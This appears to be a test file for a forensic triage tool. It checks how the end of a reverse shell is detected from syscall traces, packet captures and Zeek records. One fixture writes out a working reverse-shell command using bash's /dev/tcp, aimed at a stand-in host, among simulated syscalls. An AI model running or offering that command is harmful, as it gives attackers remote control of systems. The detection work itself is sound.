// The end of a reverse shell closes its incident's span: socket tracking over one process's calls
// (strace -y and ltrace spellings), the wire's view of the connection's end (packets, Zeek conn),
// and on a built case: a service's reverse shell whose exit becomes the storyline's last step.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { CaseStore } from '../store/case-store.ts';
import { tempDir } from '../testing/temp.ts';
import { runTriage } from '../triage/findings.ts';
import { loadRules, SHIPPED_RULES_DIR } from '../triage/rules-load.ts';
import { addCapture, call, T0 } from '../triage/testing/build-case.ts';
import { listIncidents } from './store.ts';
import { stdioConnections, wireEnd, type ShellCall } from './shell-end.ts';

let id = 0;
function c(sec: number, op: string, args: string, ret: string, target: string | null = null, error: string | null = null): ShellCall {
  return { event_id: ++id, ts_us: T0 + Math.round(sec * 1e6), op, target, args, ret, error };
}

describe('stdioConnections', () => {
  it('strace -y: the socket duplicated onto stdin/stdout is the shell\'s connection, closed with its last copy', () => {
    const calls = [
      c(1, 'socket', 'AF_INET, SOCK_STREAM, IPPROTO_TCP', '3', 'socket:[59762]'),
      c(1.1, 'connect', '3<socket:[59762]>, {sa_family=AF_INET, sin_port=htons(4444)}, 16', '0', '10.9.9.9:4444'),
      c(1.2, 'dup2', '3<socket:[59762]>, 0</dev/null>', '0', 'socket:[59762]'),
      c(1.3, 'dup2', '3<socket:[59762]>, 1<pipe:[1]>', '1', 'socket:[59762]'),
      c(2, 'close', '3<socket:[59762]>', '0', 'socket:[59762]'),
      c(5, 'close', '0<socket:[59762]>', '0', 'socket:[59762]'),
      c(6, 'close', '1<socket:[59762]>', '0', 'socket:[59762]'),
    ];
    const [conn, ...more] = stdioConnections(calls);
    expect(more).toEqual([]);
    expect(conn).toMatchObject({ endpoint: '10.9.9.9:4444', connect_us: T0 + 1_100_000, closed_us: T0 + 6_000_000, closed_event: calls[6]?.event_id });
  });

  it('ltrace: plain fds; a connection never put on stdio (a downloader) or refused is no shell', () => {
    expect(stdioConnections([c(1, 'socket', '2, 1, 6', '3'), c(1.1, 'connect', '3, 0x5574, 16', '0'), c(1.2, 'dup2', '3, 0', '0'), c(2, 'close', '3', '0'), c(3, 'close', '0', '0')])).toMatchObject([
      { endpoint: null, closed_us: T0 + 3_000_000 },
    ]);
    expect(stdioConnections([c(1, 'socket', '2, 1, 6', '3'), c(1.1, 'connect', '3, 0x5574, 16', '0'), c(2, 'close', '3', '0')])).toEqual([]);
    expect(stdioConnections([c(1, 'socket', '2, 1, 6', '3'), c(1.1, 'connect', '3, 0x5574, 16', '-1'), c(1.2, 'dup2', '3, 0', '0')])).toEqual([]);
    // A socket replaced on stdin by something else is not on stdio any more for that fd.
    expect(stdioConnections([c(1, 'socket', '2, 1, 6', '5'), c(1.1, 'dup2', '7, 5', '5'), c(1.2, 'connect', '5, 0x1, 16', '0')])).toEqual([]);
  });
});

describe('wireEnd', () => {
  const conn = { endpoint: '10.9.9.9:4444', connect_us: T0 + 1_000_000 };
  it('a packet capture: the first FIN or RST of the flow whose SYN is nearest the connect', () => {
    const pkt = (sec: number, args: string, target: string) => ({ ts_us: T0 + Math.round(sec * 1e6), dur_us: null, op: 'tcp', target, args });
    const wire = [
      pkt(1.0002, '10.0.0.2:40000 → 10.9.9.9:4444 len=74 [SYN] Seq=0', '10.9.9.9:4444'),
      pkt(1.3, '10.0.0.2:40001 → 10.9.9.9:4444 len=74 [FIN, ACK]', '10.9.9.9:4444'), // another flow
      pkt(7, '10.0.0.2:40000 → 10.9.9.9:4444 len=66 [FIN, PSH, ACK]', '10.9.9.9:4444'),
      pkt(90, '10.9.9.9:4444 → 10.0.0.2:40000 len=66 [FIN, ACK]', '10.0.0.2:40000'),
    ];
    expect(wireEnd(conn, wire)).toEqual({ endpoint: '10.9.9.9:4444', end_us: T0 + 7_000_000 });
    expect(wireEnd({ endpoint: null, connect_us: conn.connect_us }, wire)).toEqual({ endpoint: '10.9.9.9:4444', end_us: T0 + 7_000_000 });
    expect(wireEnd({ endpoint: '10.9.9.9:4444', connect_us: T0 + 60_000_000 }, wire)).toBeNull();
  });

  it('a Zeek conn record: start + duration', () => {
    const wire = [{ ts_us: T0 + 1_000_100, dur_us: 8_500_000, op: 'conn', target: '10.9.9.9:4444', args: '10.0.0.2:40000 → 10.9.9.9:4444 tcp state=SF' }];
    expect(wireEnd(conn, wire)).toEqual({ endpoint: '10.9.9.9:4444', end_us: T0 + 9_500_100 });
  });
});

describe('a reverse shell closes its incident (built case)', () => {
  let dir: ReturnType<typeof tempDir>;
  beforeEach(() => {
    dir = tempDir();
  });
  afterEach(() => dir.remove());

  it('the storyline ends with "shell ended (exit code …, connection … closed)" and the incident ends then', async () => {
    const store = await CaseStore.open(dir.file('c.duckdb'));
    const net = { category: 'network' } as const;
    await addCapture(store, [
      call(0, 100, 'execve', '/usr/bin/python3', '"/usr/bin/python3", ["python3", "/srv/app.py"]'),
      call(10, 100, 'clone', null, 'child_stack=NULL, flags=CLONE_CHILD_SETTID|SIGCHLD', { ret: '200' }),
      call(10.01, 200, 'execve', '/bin/bash', '"/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.9.9.9/4444 0>&1; id"]'),
      call(10.02, 200, 'socket', 'socket:[777]', 'AF_INET, SOCK_STREAM, IPPROTO_TCP', { ...net, ret: '3' }),
      call(10.03, 200, 'connect', '10.9.9.9:4444', '3<socket:[777]>, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr("10.9.9.9")}, 16', net),
      call(10.04, 200, 'dup2', 'socket:[777]', '3<socket:[777]>, 0</dev/null>', { category: 'file', ret: '0' }),
      call(10.05, 200, 'dup2', 'socket:[777]', '3<socket:[777]>, 1</dev/null>', { category: 'file', ret: '1' }),
      call(10.06, 200, 'close', 'socket:[777]', '3<socket:[777]>', { category: 'file' }),
      call(11, 200, 'clone', null, 'child_stack=NULL, flags=CLONE_CHILD_SETTID|SIGCHLD', { ret: '201' }),
      call(11.01, 201, 'execve', '/usr/bin/id', '"/usr/bin/id", ["id"]'),
      call(11.02, 201, 'exit_group', null, '0', { ret: '?' }),
      call(40, 200, 'close', 'socket:[777]', '0<socket:[777]>', { category: 'file' }),
      call(40.5, 200, 'close', 'socket:[777]', '1<socket:[777]>', { category: 'file' }),
      call(41, 200, 'exit_group', null, '3', { ret: '?' }),
      call(41.001, 200, 'exit', null, '', { kind: 'process', ret: '3' }),
      call(100, 100, 'read', '/srv/app.cfg', '4, "", 4096'),
    ]);
    await runTriage(store, { rules: loadRules([SHIPPED_RULES_DIR]), noSequenceDiff: true });
    const [incident, ...rest] = await listIncidents(store);
    expect(rest).toEqual([]);
    const last = incident?.steps.at(-1);
    expect(last?.kind).toBe('shell_end');
    expect(last?.finding_id).toBe(0);
    expect(last?.text).toMatch(/^\d\d:\d\d:\d\d\.\d{3} bash \(pid 200\): shell ended \(exit code 3, connection 10\.9\.9\.9:4444 closed\) \[shell-end\]$/);
    expect(incident?.end_us).toBe(last?.ts_us);
    expect(last?.ts_us).toBeGreaterThanOrEqual(T0 + 41_000_000);
    expect(incident?.steps.slice(0, -1).every((s) => s.ts_us < T0 + 12_000_000 && s.finding_id > 0)).toBe(true);
    store.close();
  });
});
